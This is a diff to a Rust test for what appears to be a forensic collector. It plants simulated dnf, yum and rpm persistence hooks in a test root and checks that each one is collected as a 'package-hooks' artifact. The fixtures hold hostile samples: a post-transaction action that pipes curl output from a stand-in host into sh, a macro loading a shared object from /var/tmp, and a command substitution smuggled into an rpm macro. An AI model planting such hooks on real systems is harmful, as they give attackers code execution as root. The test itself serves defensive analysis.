@@ -782,8 +782,30 @@ fn dead_box_rhel_layouts_and_rpm_database() {
         "/var/log/journal/0123456789abcdef0123456789abcdef/system.journal",
         journal,
     );
+    // What dnf, yum and rpm run as root at a reinstall (issue 13): stored for the analyst.
+    let hooks = [
+        ("/etc/dnf/dnf.conf", "[main]\npluginpath=/var/tmp/.p\n"),
+        ("/etc/dnf/plugins/evil.conf", "[main]\nenabled=1\n"),
+        (
+            "/etc/dnf/plugins/post-transaction-actions.d/x.action",
+            "*:any:/bin/sh -c 'curl -s http://127.66.0.1/x|sh'\n",
+        ),
+        ("/etc/yum/pluginconf.d/evil.conf", "[main]\nenabled=1\n"),
+        (
+            "/etc/rpm/macros.zz",
+            "%__transaction_zz /var/tmp/.x/zz.so\n",
+        ),
+        ("/root/.rpmmacros", "%_dbpath %(id)/var/lib/rpm\n"),
+    ];
+    for (path, text) in hooks {
+        put(&r, path, text);
+    }
 
     let c = collect(&r, dir.path(), &[]);
+    for (path, text) in hooks {
+        assert_eq!(c.file(path).category, "package-hooks", "{path}");
+        assert_eq!(c.content(path), text.as_bytes(), "{path}");
+    }
     for (path, want) in [
         ("/var/spool/cron/root", "cron"),
         ("/var/log/secure", "log"),
